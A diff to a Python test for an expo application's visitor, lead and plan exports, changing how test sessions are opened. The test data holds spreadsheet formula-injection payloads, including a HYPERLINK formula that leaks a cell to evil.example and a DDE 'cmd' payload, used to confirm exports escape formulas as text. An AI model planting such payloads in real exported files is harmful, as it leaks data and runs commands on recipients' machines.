@@ -19,6 +19,7 @@ from expo.services.lead_export import export_inquiries
 from expo.services.leads import InquiryDraft, booth_station, record_inquiry
 from expo.services.plan_files import export_plan, import_plan
 from expo.services.visitor_export import export_visitors
+from tests.actors import OFFICE
 from tests.fair import build_small_fair
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Li")'
@@ -66,7 +67,7 @@ def test_the_escape_rules() -> None:
 
 def test_every_export_writes_formulas_as_text(empty_db, tmp_path: Path) -> None:
     fair = build_small_fair(empty_db)
-    with empty_db.begin() as session:
+    with empty_db.write(OFFICE) as session:
         for visitor_id, name in ((fair.consenting, LEAK), (fair.private, "@SUM(A1:A9)")):
             session.execute(
                 update(Visitor).where(Visitor.id == visitor_id).values(name=name, company="-2+3")
@@ -121,7 +122,7 @@ def test_every_export_writes_formulas_as_text(empty_db, tmp_path: Path) -> None:
     assert "'=cmd|' /C calc'!A0" in plan_fields
 
     # Our own plan export imports as it was written: the apostrophe comes off again.
-    with empty_db.begin() as session:
+    with empty_db.write(OFFICE) as session:
         import_plan(session, plan)
     with empty_db.session() as session:
         booth_notes = session.scalars(select(Booth.notes)).all()
